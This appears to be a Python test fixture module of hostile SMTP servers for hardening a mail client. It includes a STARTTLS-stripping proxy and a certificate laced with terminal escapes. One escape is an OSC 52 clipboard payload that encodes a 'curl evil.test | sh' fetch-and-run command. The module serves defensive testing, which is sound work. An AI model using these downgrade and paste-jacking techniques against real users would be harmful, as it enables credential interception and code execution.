"""Hostile and broken SMTP servers on 127.0.0.1, for the hardening campaign.

``misbehaving(...)`` is a small SMTP server (STARTTLS with a real certificate, AUTH PLAIN and
LOGIN, MAIL, RCPT, DATA) that behaves until one chosen stage, then misbehaves there in one
chosen way. It records every byte it receives, split into what came in clear text and what
came after TLS, so a test can prove no credentials crossed the wire unencrypted.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import datetime as dt
import ipaddress
import ssl
import threading
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.servers import USERNAME, ServerThread, scripted_server

# Where the server can misbehave, in protocol order ("tls" is the STARTTLS handshake).
STAGES = ("banner", "ehlo", "starttls", "tls", "ehlo_tls", "auth", "mail", "rcpt", "data", "quit")
# How: an error reply, hanging up, half a reply then silence, bytes that are not SMTP, a reply
# without its line end.
HOWS = ("code", "drop", "stall", "garbage", "no_crlf")
# The TLS handshake has no reply line of its own: only these apply to it.
TLS_HOWS = ("drop", "stall", "garbage")

GARBAGE = b"\x00\x16\x03\x01\x02\x00\xff\xfe GARBAGE \x1b[31m\x80\x81"


@dataclass
class Wire:
    """What one server received."""

    cleartext: bytearray = field(default_factory=bytearray)
    encrypted: bytearray = field(default_factory=bytearray)
    connections: int = 0
    closed: threading.Event = field(default_factory=threading.Event)
    stalled: threading.Event = field(default_factory=threading.Event)  # a stall or hang began

    def exposes(self, secret: str) -> bool:
        """Whether ``secret`` (or a base64 form AUTH would use) arrived in clear text."""
        forms = [secret.encode(), base64.b64encode(secret.encode())]
        forms.append(base64.b64encode(f"\0{USERNAME}\0{secret}".encode()))
        return any(form in self.cleartext for form in forms)


def _error_code(stage: str) -> int:
    return {"banner": 554, "ehlo": 554, "starttls": 454, "auth": 535, "mail": 550, "rcpt": 550, "data": 554}.get(
        stage, 500
    )


async def _misbehave(
    how: str, stage: str, writer: asyncio.StreamWriter, reader: asyncio.StreamReader, wire: Wire
) -> bool:
    """Misbehave; return True if the session should go on afterwards."""
    if how == "code":
        writer.write(f"{_error_code(stage)} 5.7.0 misbehaving at {stage} on purpose\r\n".encode())
        await writer.drain()
        return True
    if how == "drop":
        writer.transport.abort()
        return False
    if how == "stall":
        code = 220 if stage == "banner" else 250
        writer.write(f"{code}-the first line of a reply that never ends\r\n".encode())
        await writer.drain()
        wire.stalled.set()
        await reader.read()  # until the client gives up and hangs up
        return False
    if how == "garbage":
        writer.write(GARBAGE + b"\r\n")
        await writer.drain()
        return True
    if how == "no_crlf":
        writer.write(b"250 OK but never a line end")
        await writer.drain()
        wire.stalled.set()
        await reader.read()
        return False
    raise AssertionError(how)


@contextlib.contextmanager
def misbehaving(stage: str | None, how: str, tls: ssl.SSLContext, password: str) -> Iterator[tuple[ServerThread, Wire]]:
    """An SMTP server that misbehaves ``how`` at ``stage`` (None: behaves throughout)."""
    wire = Wire()

    async def script(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        wire.connections += 1
        encrypted = False

        async def say(at: str, text: str) -> bool:
            if stage == at:
                return await _misbehave(how, at, writer, reader, wire)
            writer.write(text.encode())
            await writer.drain()
            return True

        async def line() -> bytes:
            data = await reader.readline()
            (wire.encrypted if encrypted else wire.cleartext).extend(data)
            return data

        try:
            if not await say("banner", "220 mx.hostile ESMTP ready\r\n"):
                return
            while data := await line():
                verb, _, arg = data.decode("utf-8", "replace").strip().partition(" ")
                verb = verb.upper()
                if verb in ("EHLO", "HELO"):
                    at = "ehlo_tls" if encrypted else "ehlo"
                    caps = "250-mx.hostile\r\n250-SIZE 1000000\r\n"
                    caps += "250 AUTH PLAIN LOGIN\r\n" if encrypted else "250 STARTTLS\r\n"
                    if not await say(at, caps):
                        return
                elif verb == "STARTTLS" and not encrypted:
                    if not await say("starttls", "220 2.0.0 go ahead\r\n"):
                        return
                    if stage == "starttls" and how in ("code", "garbage"):
                        continue
                    if stage == "tls":
                        if how == "garbage":
                            writer.write(GARBAGE * 4)
                            await writer.drain()
                        elif how == "drop":
                            writer.transport.abort()
                            return
                        wire.stalled.set()
                        await reader.read()  # never answer the ClientHello
                        return
                    await writer.start_tls(tls)
                    encrypted = True
                elif verb == "AUTH":
                    ok = _check_auth(arg, password)
                    if ok is None:  # AUTH LOGIN: two more lines
                        writer.write(b"334 VXNlcm5hbWU6\r\n")
                        await writer.drain()
                        user = base64.b64decode((await line()).strip() or b"=").decode("utf-8", "replace")
                        writer.write(b"334 UGFzc3dvcmQ6\r\n")
                        await writer.drain()
                        secret = base64.b64decode((await line()).strip() or b"=").decode("utf-8", "replace")
                        ok = user == USERNAME and secret == password
                    if not await say("auth", "235 2.7.0 accepted\r\n" if ok else "535 5.7.8 bad credentials\r\n"):
                        return
                elif verb == "MAIL":
                    if not await say("mail", "250 2.1.0 sender ok\r\n"):
                        return
                elif verb == "RCPT":
                    if not await say("rcpt", "250 2.1.5 recipient ok\r\n"):
                        return
                elif verb == "DATA":
                    writer.write(b"354 end with <CRLF>.<CRLF>\r\n")
                    await writer.drain()
                    while await line() not in (b".\r\n", b""):
                        pass
                    if not await say("data", "250 2.0.0 queued\r\n"):
                        return
                elif verb == "QUIT":
                    await say("quit", "221 2.0.0 bye\r\n")
                    return
                elif verb in ("RSET", "NOOP"):
                    writer.write(b"250 2.0.0 ok\r\n")
                    await writer.drain()
                else:
                    writer.write(b"500 5.5.1 unknown command\r\n")
                    await writer.drain()
        finally:
            wire.closed.set()

    with scripted_server(script) as server:
        yield server, wire


def _check_auth(arg: str, password: str) -> bool | None:
    mechanism, _, initial = arg.partition(" ")
    if mechanism.upper() == "PLAIN" and initial:
        try:
            _, user, secret = base64.b64decode(initial).decode().split("\0")
        except ValueError:
            return False
        return user == USERNAME and secret == password
    if mechanism.upper() == "LOGIN":
        return None
    return False


@contextlib.contextmanager
def raw_server(
    handler: Callable[[asyncio.StreamReader, asyncio.StreamWriter], object],
) -> Iterator[tuple[ServerThread, Wire]]:
    """A server that runs ``handler`` and records what it received (all of it clear text)."""
    wire = Wire()

    async def script(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        wire.connections += 1

        class Recording:
            async def readline(self) -> bytes:
                data = await reader.readline()
                wire.cleartext.extend(data)
                return data

            async def read(self, n: int = -1) -> bytes:
                data = await reader.read(n)
                wire.cleartext.extend(data)
                return data

        try:
            await handler(Recording(), writer)  # type: ignore[misc]
        finally:
            wire.closed.set()

    with scripted_server(script) as server:
        yield server, wire


@contextlib.contextmanager
def stripping_proxy(upstream_port: int) -> Iterator[tuple[int, Wire]]:
    """A man in the middle that deletes STARTTLS from the server's EHLO reply and records
    everything the client sends."""
    wire = Wire()

    async def pipe_up(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65536):
            wire.cleartext.extend(data)
            writer.write(data)
            await writer.drain()
        writer.close()

    async def pipe_down(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.readline():
            # the classic attack: overwrite the capability so the client never sees it offered
            writer.write(data.replace(b"STARTTLS", b"XXXXXXXA"))
            await writer.drain()
        writer.close()

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        wire.connections += 1
        with contextlib.suppress(OSError, asyncio.CancelledError):
            up_reader, up_writer = await asyncio.open_connection("127.0.0.1", upstream_port)
            await asyncio.gather(pipe_up(reader, up_writer), pipe_down(up_reader, writer), return_exceptions=True)
        wire.closed.set()

    with ServerThread(stream_handler=handle) as proxy:
        yield proxy.port, wire


# Text a certificate owner controls, aimed at the terminal that shows it: an OSC 52 clipboard
# write (paste-jacking), a title change, a screen clear, a CSI in its 8-bit form, a right-to-left
# override and a zero-width space.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07"
HOSTILE_CN = "mx\u202etset.\u200blive\x1b]0;pwned\x07"
HOSTILE_ISSUER = "Evil CA\x1b[2J\x9b31m"
HOSTILE_SAN = f"x{OSC52}.test"


def hostile_certificate(directory: Path) -> tuple[ssl.SSLContext, str]:
    """A server context whose certificate carries terminal escapes and bidi controls in its
    subject, issuer and SAN (dNSName and otherName), and the PEM of the CA that issued it.

    The certificate is otherwise valid for 127.0.0.1, so with that CA trusted it verifies."""
    now = dt.datetime.now(dt.UTC)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, HOSTILE_ISSUER)])
    ca_cert = (
        x509.CertificateBuilder()
        .subject_name(ca_name)
        .issuer_name(ca_name)
        .public_key(ca_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(x509.KeyUsage(True, False, False, False, False, True, True, False, False), critical=True)
        .sign(ca_key, hashes.SHA256())
    )
    key = ec.generate_private_key(ec.SECP256R1())
    sans: list[x509.GeneralName] = [
        x509.DNSName(HOSTILE_SAN),
        x509.OtherName(x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.3"), b"\x0c\x05\x1b[2Jx"),
        x509.IPAddress(ipaddress.ip_address("127.0.0.1")),
    ]
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOSTILE_CN)]))
        .issuer_name(ca_name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(x509.SubjectAlternativeName(sans), critical=False)
        .sign(ca_key, hashes.SHA256())
    )
    chain = directory / "hostile-chain.pem"
    chain.write_bytes(
        cert.public_bytes(serialization.Encoding.PEM)
        + key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    ca_pem = directory / "hostile-ca.pem"
    ca_pem.write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(chain)
    return context, str(ca_pem)


def unsafe_characters(text: str) -> list[str]:
    """Characters that act on a terminal or hide text (controls except line feed, format
    characters such as bidi overrides and zero-width spaces, surrogates, line separators)."""
    return [repr(ch) for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


@dataclass
class TlsRefusal:
    """What a blocking TLS server saw: its handshake errors, and any login that got through."""

    handshake_errors: list[str] = field(default_factory=list)
    logins: int = 0


@contextlib.contextmanager
def blocking_tls_server(context: ssl.SSLContext, implicit: bool) -> Iterator[tuple[int, TlsRefusal]]:
    """An SMTP server on plain blocking sockets, as an MTA runs TLS: unlike asyncio's, whose
    failed server handshake resets the connection, it sends its TLS alert (protocol_version,
    certificate_required...) before closing, so the client can tell why."""
    import socket

    seen = TlsRefusal()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    stop = threading.Event()

    def session(conn: socket.socket) -> None:
        conn.settimeout(10)
        stream = conn
        if not implicit:
            reader = conn.makefile("rb")
            conn.sendall(b"220 mx.blocking ESMTP\r\n")
            while line := reader.readline():
                verb = line.split(b" ", 1)[0].strip().upper()
                if verb == b"EHLO":
                    conn.sendall(b"250-mx.blocking\r\n250 STARTTLS\r\n")
                elif verb == b"STARTTLS":
                    conn.sendall(b"220 go ahead\r\n")
                    break
                else:
                    conn.sendall(b"503 STARTTLS first\r\n")
                    return
        try:
            stream = context.wrap_socket(conn, server_side=True)
        except (ssl.SSLError, OSError) as exc:
            seen.handshake_errors.append(str(exc))
            return
        reader = stream.makefile("rb")
        if implicit:
            stream.sendall(b"220 mx.blocking ESMTP\r\n")
        try:
            while line := reader.readline():
                verb = line.split(b" ", 1)[0].strip().upper()
                if verb == b"AUTH":
                    seen.logins += 1
                stream.sendall(b"250-mx.blocking\r\n250 AUTH PLAIN\r\n" if verb == b"EHLO" else b"221 bye\r\n")
                if verb in (b"AUTH", b"QUIT"):
                    return
        except (ssl.SSLError, OSError) as exc:  # TLS 1.3: the client cert is checked after the client's Finished
            seen.handshake_errors.append(str(exc))

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                session(conn)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1], seen
    finally:
        stop.set()
        thread.join(5)
        listener.close()
